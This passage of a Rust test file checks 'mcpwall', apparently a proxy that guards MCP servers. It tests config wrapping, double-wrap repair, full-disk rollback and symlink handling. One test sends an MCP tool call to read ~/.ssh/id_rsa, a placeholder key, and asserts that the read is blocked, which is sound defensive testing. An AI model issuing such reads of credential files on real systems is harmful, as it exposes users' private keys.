        .join("tests/interop/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
    let node = ["/usr/bin/node", "/usr/local/bin/node"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let (Some(node), true) = (node, server.exists()) else {
        assert!(
            std::env::var_os("MCPWALL_REQUIRE_INTEROP").is_none(),
            "node or the official filesystem server is missing"
        );
        eprintln!("\n!!! SKIPPED: no node or tests/interop/node_modules !!!\n");
        return;
    };
    let sandbox = Sandbox::new();
    sandbox.write("project/README.md", "hello from the project\n");
    sandbox.write("home/.ssh/id_rsa", "not a real key\n");
    let project = sandbox.project().display().to_string();
    let home = sandbox.home().display().to_string();
    let text = format!(
        "{{\n  \"mcpServers\": {{\n    \"filesystem\": {{\n      \"command\": \"npx\",\n      \"args\": [\n        \"-y\", \"mcpwall\", \"--\",\n        \"{node}\", \"{}\", \"{project}\", \"{home}\"\n      ]\n    }}\n  }}\n}}\n",
        server.display()
    );
    sandbox.write("project/.mcp.json", &text);
    let out = sandbox.run_client(&["wrap", "filesystem"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    let entry: serde_json::Value =
        serde_json::from_str(&sandbox.read("project/.mcp.json")).unwrap();
    let entry = &entry["mcpServers"]["filesystem"];
    assert_eq!(entry["command"], "mcpwall");
    let args: Vec<&str> = entry["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert_eq!(args[..4], ["--server-name", "filesystem", "--", node]);

    let bin_dir = Path::new(MCPWALL).parent().unwrap();
    let mut child = Command::new(bin_dir.join("mcpwall"))
        .args(&args)
        .current_dir(sandbox.project())
        .env_clear()
        .env("HOME", sandbox.home())
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let stdout = child.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let ask = |stdin: &mut std::process::ChildStdin,
               id: u64,
               method: &str,
               params: serde_json::Value|
     -> serde_json::Value {
        let frame =
            serde_json::json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
        writeln!(stdin, "{frame}").unwrap();
        loop {
            let line = rx
                .recv_timeout(std::time::Duration::from_secs(60))
                .unwrap_or_else(|_| panic!("no answer to {method}"));
            let v: serde_json::Value = serde_json::from_str(&line).unwrap();
            if v["id"] == id {
                return v;
            }
        }
    };
    let init = ask(
        &mut stdin,
        1,
        "initialize",
        serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}),
    );
    assert!(init["result"]["serverInfo"].is_object(), "{init}");
    writeln!(
        stdin,
        "{{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}}"
    )
    .unwrap();
    let read =
        |path: String| serde_json::json!({"name": "read_text_file", "arguments": {"path": path}});
    let ok = ask(
        &mut stdin,
        2,
        "tools/call",
        read(format!("{project}/README.md")),
    );
    assert!(
        ok["result"].to_string().contains("hello from the project"),
        "{ok}"
    );
    let key = ask(
        &mut stdin,
        3,
        "tools/call",
        read(format!("{home}/.ssh/id_rsa")),
    );
    assert!(
        key.get("error").is_some() || key["result"]["isError"] == true,
        "{key}"
    );
    assert!(!key.to_string().contains("not a real key"), "{key}");
    drop(stdin);
    let _ = child.kill();
    let _ = child.wait();

    let out = sandbox.run_client(&["unwrap", "filesystem"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(sandbox.read("project/.mcp.json"), text);
}

/// Issue 27: an entry an older `mcpwall wrap` wrapped a second time around the original
/// (`mcpwall --server-name fs -- npx -y mcpwall -- srv`) is reported, and unwrap + wrap
/// leave only this mcpwall, with the original's options.
#[test]
fn r27_an_entry_wrapped_around_the_original_is_reported_and_fixed() {
    let sandbox = Sandbox::new();
    let fake = fake_server();
    sandbox.write(
        "project/.mcp.json",
        &format!(
            "{{\"mcpServers\": {{\"fs\": {{\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"fs\", \"--\", \"npx\", \"-y\", \"mcpwall\", \"--strict\", \"--\", \"{fake}\"]}}}}}}\n"
        ),
    );
    let status = sandbox.stdout(&sandbox.run_client(&["status"]));
    assert!(status.contains("WRAPPED TWICE"), "{status}");
    let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
    assert!(doctor.contains("wrapped twice"), "{doctor}");
    assert_eq!(code(&sandbox.run_client(&["unwrap", "fs"])), 0);
    let out = sandbox.run_client(&["wrap", "fs"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert_eq!(
        sandbox.read("project/.mcp.json"),
        format!(
            "{{\"mcpServers\": {{\"fs\": {{\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"fs\", \"--strict\", \"--\", \"{fake}\"]}}}}}}\n"
        )
    );
    let status = sandbox.stdout(&sandbox.run_client(&["status"]));
    assert!(
        !status.contains("TWICE") && !status.contains("original"),
        "{status}"
    );
}

/// Issue 29 on a real full disk: HOME on a small tmpfs (mounted when the test runs as
/// root; skipped otherwise), filled so the backup, then the temp file, then the records
/// file is what no longer fits. Each run exits 1, says the file was not changed (or was
/// rolled back), and leaves the file, the records and the backups as they were, with no
/// temp file behind.
#[cfg(target_os = "linux")]
#[test]
fn r29_a_full_disk_changes_nothing() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: mounting a small tmpfs needs root");
        return;
    }
    const F: usize = 48 * 1024;
    for (case, spare) in [
        ("backup", F / 2),
        ("temp file", F + F / 2),
        ("records", 2 * F + 16 * 1024),
    ] {
        let sandbox = Sandbox::new();
        let home = sandbox.home();
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=512k,mode=0755", "tmpfs"])
            .arg(home)
            .status()
            .is_ok_and(|s| s.success());
        if !mounted {
            eprintln!("skipped: cannot mount a tmpfs here");
            return;
        }
        struct Unmount(PathBuf);
        impl Drop for Unmount {
            fn drop(&mut self) {
                let _ = Command::new("umount").arg(&self.0).status();
            }
        }
        let _unmount = Unmount(home.to_path_buf());
        let rel = "home/.cursor/mcp.json";
        let text = format!(
            "{{\"mcpServers\": {{\"x\": {{\"command\": \"srv\", \"env\": {{\"PAD\": \"{}\"}}}}}}}}\n",
            "p".repeat(F)
        );
        sandbox.write(rel, &text);
        std::fs::create_dir_all(home.join(".mcpwall/backups")).unwrap();
        let free = || {
            let path = std::ffi::CString::new(home.as_os_str().as_encoded_bytes()).unwrap();
            // SAFETY: a valid NUL-terminated path and a zeroed out-parameter.
            let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
            assert_eq!(unsafe { libc::statvfs(path.as_ptr(), &mut st) }, 0);
            st.f_bavail as usize * st.f_frsize as usize
        };
        let filler = free().saturating_sub(spare);
        std::fs::write(home.join("filler"), vec![0u8; filler]).unwrap();
        let out = sandbox.run_client(&["wrap", "x"]);
        let stdout = sandbox.stdout(&out);
        assert_eq!(code(&out), 1, "{case}: {stdout}");
        assert!(
            stdout.contains("No space left on device"),
            "{case}: {stdout}"
        );
        assert_eq!(sandbox.read(rel), text, "{case}: {stdout}");
        if case == "records" {
            assert!(stdout.contains("rolled back"), "{case}: {stdout}");
        } else {
            assert!(stdout.contains("not changed"), "{case}: {stdout}");
        }
        let backups = std::fs::read_dir(home.join(".mcpwall/backups"))
            .unwrap()
            .count();
        assert_eq!(
            backups, 0,
            "{case}: a backup of a change that did not happen"
        );
        let records =
            std::fs::read_to_string(home.join(".mcpwall/wrapped.json")).unwrap_or_default();
        assert!(!records.contains("cursor"), "{case}: {records}");
        for dir in [home.join(".cursor"), home.join(".mcpwall")] {
            let stray: Vec<_> = std::fs::read_dir(&dir)
                .unwrap()
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .filter(|n| n.contains(".tmp"))
                .collect();
            assert!(stray.is_empty(), "{case}: temp files left: {stray:?}");
        }
    }
}

/// Issue 29: a repository's client file that is a symlink to a file outside the project
/// (here another client's config of the user's) is not written through without --force.
#[cfg(unix)]
#[test]
fn r29_a_project_file_linked_outside_the_project_needs_force() {
    let sandbox = Sandbox::new();
    let theirs = "{\"servers\": {\"x\": {\"command\": \"srv\"}}}\n";
    sandbox.write("home/elsewhere/mcp.json", theirs);
    std::fs::create_dir_all(sandbox.project().join(".vscode")).unwrap();
    std::os::unix::fs::symlink(
        sandbox.home().join("elsewhere/mcp.json"),
        sandbox.project().join(".vscode/mcp.json"),
    )
    .unwrap();
    let out = sandbox.run_client(&["wrap", "x"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    assert!(stdout.contains("outside the project"), "{stdout}");
    assert_eq!(sandbox.read("home/elsewhere/mcp.json"), theirs);
    let out = sandbox.run_client(&["wrap", "x", "--force"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
    assert!(
        sandbox
            .read("home/elsewhere/mcp.json")
            .contains("\"--\", \"srv\"")
    );
    // A link inside the project is fine.
    let sandbox = Sandbox::new();
    sandbox.write("project/shared/mcp.json", theirs);
    std::fs::create_dir_all(sandbox.project().join(".vscode")).unwrap();
    std::os::unix::fs::symlink(
        "../shared/mcp.json",
        sandbox.project().join(".vscode/mcp.json"),
    )
    .unwrap();
    let out = sandbox.run_client(&["wrap", "x"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
}
